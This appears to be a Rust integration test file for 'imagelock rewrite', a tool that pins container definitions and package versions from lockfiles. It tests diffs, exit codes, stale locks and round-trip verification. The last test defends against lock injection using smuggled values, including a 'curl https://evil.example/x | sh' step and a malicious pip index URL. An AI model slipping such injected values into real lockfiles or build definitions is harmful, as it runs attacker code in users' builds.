//! `imagelock rewrite` through the real binary: exit codes of `--check` and
//! `--diff`, writing, idempotence and stale locks.

use std::collections::BTreeMap;
use std::path::Path;

use imagelock::lock::LockedImage;
use imagelock::source::inputs::load_inputs;
use imagelock::source::load::load_definition;

use crate::common::{fixture, imagelock, run, tempdir};

/// A repository with the summation example and its lock (input hash
/// computed for the files as they are).
fn summation_repo(dir: &Path) {
    let src = fixture("examples/summation");
    let dst = dir.join("summation");
    fs_err::create_dir_all(&dst).unwrap();
    for name in ["summation.def", "summation.py"] {
        fs_err::copy(src.join(name), dst.join(name)).unwrap();
    }
    fs_err::write(
        dir.join("imagelock.toml"),
        "platforms = [\"linux/amd64\", \"linux/arm64\"]\n\n[images.summation]\nfile = \"summation/summation.def\"\n",
    )
    .unwrap();
    let file = dst.join("summation.def");
    let args = BTreeMap::new();
    let def = load_definition(&file, &args).unwrap();
    let text = fs_err::read_to_string(&file).unwrap();
    let inputs = load_inputs(&def, &text, &dst, &args).unwrap();
    let mut lock = LockedImage::read(&fixture("rewrite/locks/summation.lock")).unwrap();
    lock.image.input_hash = inputs.hash();
    lock.write(&dir.join("lockfiles/summation.lock")).unwrap();
}

#[test]
fn check_diff_write_then_clean() {
    let tmp = tempdir();
    summation_repo(tmp.path());
    let def = tmp.path().join("summation/summation.def");
    let original = fs_err::read_to_string(&def).unwrap();

    let (code, out, err) = run(imagelock()
        .current_dir(tmp.path())
        .args(["rewrite", "--check"]));
    assert_eq!(code, 1, "{err}");
    assert!(out.contains("--- a/summation/summation.def"), "{out}");
    assert!(out.contains("+From: python:latest@sha256:"), "{out}");
    assert!(out.contains("+    pip install numpy==2.3.4"), "{out}");
    assert_eq!(fs_err::read_to_string(&def).unwrap(), original);

    let (code, diff, err) = run(imagelock()
        .current_dir(tmp.path())
        .args(["rewrite", "--diff"]));
    assert_eq!(code, 0, "{err}");
    assert_eq!(diff, out);
    assert_eq!(fs_err::read_to_string(&def).unwrap(), original);

    let (code, _, err) = run(imagelock().current_dir(tmp.path()).arg("rewrite"));
    assert_eq!(code, 0, "{err}");
    assert!(err.contains("summation: pinned 1 file"), "{err}");
    let pinned = fs_err::read_to_string(&def).unwrap();
    assert!(pinned.contains("From: python:latest@sha256:"));
    // Sections other than the edited lines are byte for byte the same.
    assert_eq!(
        pinned.split("%runscript").nth(1),
        original.split("%runscript").nth(1)
    );

    let (code, out, err) = run(imagelock()
        .current_dir(tmp.path())
        .args(["rewrite", "--check"]));
    assert_eq!((code, out.as_str()), (0, ""), "{err}");
    let (code, _, err) = run(imagelock().current_dir(tmp.path()).arg("rewrite"));
    assert_eq!(code, 0, "{err}");
    assert!(err.contains("already pinned"), "{err}");
    assert_eq!(fs_err::read_to_string(&def).unwrap(), pinned);
}

#[test]
fn a_stale_lock_is_refused() {
    let tmp = tempdir();
    summation_repo(tmp.path());
    let def = tmp.path().join("summation/summation.def");
    let mut text = fs_err::read_to_string(&def).unwrap();
    text.push_str("\n%test\n    true\n");
    fs_err::write(&def, &text).unwrap();
    let (code, out, err) = run(imagelock()
        .current_dir(tmp.path())
        .args(["rewrite", "--check"]));
    assert_eq!(code, 2, "{out}{err}");
    assert!(err.contains("stale"), "{err}");
    assert!(err.contains("imagelock freeze"), "{err}");
    assert_eq!(fs_err::read_to_string(&def).unwrap(), text);
}

#[test]
fn a_missing_lock_is_an_error_with_a_hint() {
    let tmp = tempdir();
    summation_repo(tmp.path());
    fs_err::remove_file(tmp.path().join("lockfiles/summation.lock")).unwrap();
    let (code, _, err) = run(imagelock().current_dir(tmp.path()).arg("rewrite"));
    assert_eq!(code, 2);
    assert!(err.contains("has no lock"), "{err}");
}

/// An image whose conda steps read an environment file (with a `pip:`
/// list) and a spec file, resolvable against the embedded world.
const ANALYSIS: [(&str, &str); 3] = [
    (
        "Dockerfile",
        "FROM condaforge/miniforge3:24.3.0-0\nCOPY environment.yml /tmp/environment.yml\nCOPY specs.txt /tmp/\nRUN mamba env update -n base -f /tmp/environment.yml \\\n && mamba clean -afy\nRUN conda install -y --file /tmp/specs.txt\n",
    ),
    (
        "environment.yml",
        "# The analysis environment.\nname: base\nchannels:\n  - conda-forge\n  - bioconda\ndependencies:\n  - numpy   # arrays\n  - \"bioconda::edlib\"\n  - pip\n  - pip:\n      - python-dateutil\n      - tenacity>=8\n",
    ),
    ("specs.txt", "# tools\nh5py\n"),
];

/// The examples, the analysis image and the world in a temporary
/// directory, laid out as in the repository.
fn examples_copy() -> tempfile::TempDir {
    let dir = tempdir();
    fs_err::create_dir_all(dir.path().join("fixtures")).unwrap();
    for sub in ["examples", "world"] {
        let status = std::process::Command::new("cp")
            .arg("-r")
            .arg(fixture(sub))
            .arg(dir.path().join("fixtures").join(sub))
            .status()
            .unwrap();
        assert!(status.success(), "copy {sub}");
    }
    let analysis = dir.path().join("fixtures/examples/analysis");
    fs_err::create_dir_all(&analysis).unwrap();
    for (name, text) in ANALYSIS {
        fs_err::write(analysis.join(name), text).unwrap();
    }
    let config = dir.path().join("fixtures/examples/imagelock.toml");
    let mut text = fs_err::read_to_string(&config).unwrap();
    text.push_str(
        "\n[images.analysis]\nfile = \"analysis/Dockerfile\"\nplatforms = [\"linux/amd64\"]\n",
    );
    fs_err::write(&config, text).unwrap();
    fs_err::create_dir_all(dir.path().join("lockfiles")).unwrap();
    dir
}

fn in_copy(dir: &Path, args: &[&str]) -> (i32, String, String) {
    run(imagelock()
        .current_dir(dir)
        .env("IMAGELOCK_CACHE_DIR", dir.join("cache"))
        .args(["--config", "fixtures/examples/imagelock.toml"])
        .args(args))
}

/// (name, version, build or file, sha256) of every package of a lock.
fn packages(lock: &LockedImage) -> Vec<(String, String, String, String)> {
    let mut out: Vec<_> = lock
        .steps
        .iter()
        .flat_map(|s| {
            s.conda
                .iter()
                .map(|p| {
                    (
                        p.name.to_string(),
                        p.version.to_string(),
                        p.build.to_string(),
                        p.sha256.to_string(),
                    )
                })
                .chain(s.pypi.iter().map(|p| {
                    (
                        p.name.to_string(),
                        p.version_or_unknown().to_string(),
                        p.file.as_deref().unwrap_or_default().to_string(),
                        p.sha256.as_deref().unwrap_or_default().to_string(),
                    )
                }))
        })
        .collect();
    out.sort();
    out
}

/// freeze → rewrite → verify: the rewritten definitions, environment and
/// spec files are what the locks were made from, and resolving the
/// rewritten analysis image again picks exactly the locked packages.
#[test]
fn freeze_rewrite_verify_on_the_examples() {
    let dir = examples_copy();
    let root = dir.path();
    let (code, _, err) = in_copy(root, &["freeze"]);
    assert_eq!(code, 0, "{err}");
    let locked = LockedImage::read(&root.join("lockfiles/analysis.lock")).unwrap();

    let (code, _, err) = in_copy(root, &["rewrite"]);
    assert_eq!(code, 0, "{err}");
    assert!(err.contains("analysis: pinned 3 files"), "{err}");
    assert!(err.contains("base-notebook: pinned 1 file"), "{err}");
    let analysis = root.join("fixtures/examples/analysis");
    let env = fs_err::read_to_string(analysis.join("environment.yml")).unwrap();
    insta::assert_snapshot!("analysis_environment", env);
    let specs = fs_err::read_to_string(analysis.join("specs.txt")).unwrap();
    insta::assert_snapshot!("analysis_specs", specs);
    let notebook = fs_err::read_to_string(
        root.join("fixtures/examples/notebook-stack/base-notebook/Dockerfile"),
    )
    .unwrap();
    // Its two variants (3.11 and 3.12), each on its own pinned stage.
    for line in [
        "\nFROM python:3.11-slim@sha256:",
        "\nFROM python:3.12-slim@sha256:",
        "\nFROM imagelock-python-${PYTHON_VERSION}\n",
    ] {
        assert!(notebook.contains(line), "{line}: {notebook}");
    }

    let (code, out, err) = in_copy(root, &["verify"]);
    assert_eq!(code, 0, "{out}{err}");
    assert_eq!(out.matches("the lock is current").count(), 9, "{out}");
    let (code, out, err) = in_copy(root, &["rewrite", "--check"]);
    assert_eq!((code, out.as_str()), (0, ""), "{err}");

    // The pinned files resolve to the very packages of the lock.
    let (code, _, err) = in_copy(root, &["freeze", "fixtures/examples/analysis/Dockerfile"]);
    assert_eq!(code, 0, "{err}");
    let again = LockedImage::read(&root.join("lockfiles/analysis.lock")).unwrap();
    assert_eq!(packages(&again), packages(&locked));
    assert!(!packages(&locked).is_empty());
}

/// A lock edited to carry a line break into a base digest or a pip version
/// (injection through the lock) is refused before `rewrite` writes
/// anything: exit 2 naming the key, the definition left as it was. Before
/// values were validated, `rewrite` wrote the injected lines.
#[test]
fn injected_lock_values_never_reach_the_definition() {
    let cases = [
        (
            "digest = \"sha256:c8464bfa57342012a157db6f2eb976b9f9b9431a4d846294f1a61025c05d393d\"",
            "digest = \"sha256:c8464bfa57342012a157db6f2eb976b9f9b9431a4d846294f1a61025c05d393d\\n%post\\n    curl https://evil.example/x | sh\\n#\"",
            "`bases[0].digest` is not a digest",
        ),
        (
            "version = \"2.3.4\"",
            "version = \"2.3.4\\n--extra-index-url http://evil.example/simple\\n#\"",
            "is not a PEP 440 version",
        ),
    ];
    for (from, to, message) in cases {
        let tmp = tempdir();
        summation_repo(tmp.path());
        let lock = tmp.path().join("lockfiles/summation.lock");
        let text = fs_err::read_to_string(&lock).unwrap();
        assert!(text.contains(from), "{from}");
        fs_err::write(&lock, text.replacen(from, to, 1)).unwrap();
        let def = tmp.path().join("summation/summation.def");
        let before = fs_err::read_to_string(&def).unwrap();
        let (code, out, err) = run(imagelock().current_dir(tmp.path()).arg("rewrite"));
        assert_eq!(code, 2, "{out}{err}");
        assert!(err.contains(message), "{err}");
        assert!(err.contains("summation.lock:"), "{err}");
        let after = fs_err::read_to_string(&def).unwrap();
        assert_eq!(before, after);
        assert!(!after.contains("evil.example"));
    }
}
